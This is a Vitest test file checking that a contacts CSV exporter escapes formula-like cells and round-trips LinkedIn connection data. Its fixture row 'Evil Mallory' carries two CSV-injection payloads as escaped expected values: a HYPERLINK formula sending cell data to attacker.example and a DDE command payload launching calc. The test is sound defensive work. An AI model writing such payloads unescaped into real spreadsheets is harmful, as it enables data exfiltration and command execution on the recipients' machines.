import { describe, expect, it } from 'vitest';
import { readCsv } from '../../src/core/import/csv';
import { contactsToCsv, EXPORT_MAPPING } from '../../src/core/import/export-csv';
import { parseGenericCsv } from '../../src/core/import/generic-csv';
import { parseLinkedInConnections } from '../../src/core/import/linkedin';
import { readFileSync } from 'node:fs';

const fixture = (path: string) => readFileSync(new URL(`../fixtures/imports/${path}`, import.meta.url), 'utf8');

describe('contactsToCsv', () => {
  const contacts = parseLinkedInConnections(fixture('linkedin/Connections.csv')).contacts;
  const csv = contactsToCsv(contacts);

  it('never writes a formula-like cell raw', () => {
    const table = readCsv(csv);
    expect(table.formulaCells).toEqual([]);
    const mallory = table.rows.find((r) => r[0] === 'Evil Mallory')!;
    expect(mallory[3]).toBe('\'=HYPERLINK("http://attacker.example/?d="&A2,"Click")');
    expect(mallory[4]).toBe("'+cmd|' /C calc'!A0");
  });

  it('reads back through the generic CSV importer with the same people, handles and tags', () => {
    const back = parseGenericCsv(csv, { mapping: EXPORT_MAPPING }).contacts;
    const strip = (v?: string) => v?.replace(/^'(?=[=+\-@])/, '');
    expect(back.map((c) => ({ ...c, employer: strip(c.employer), title: strip(c.title) }))).toEqual(contacts.map(({ formulaFields: _, ...c }) => c));
  });
});
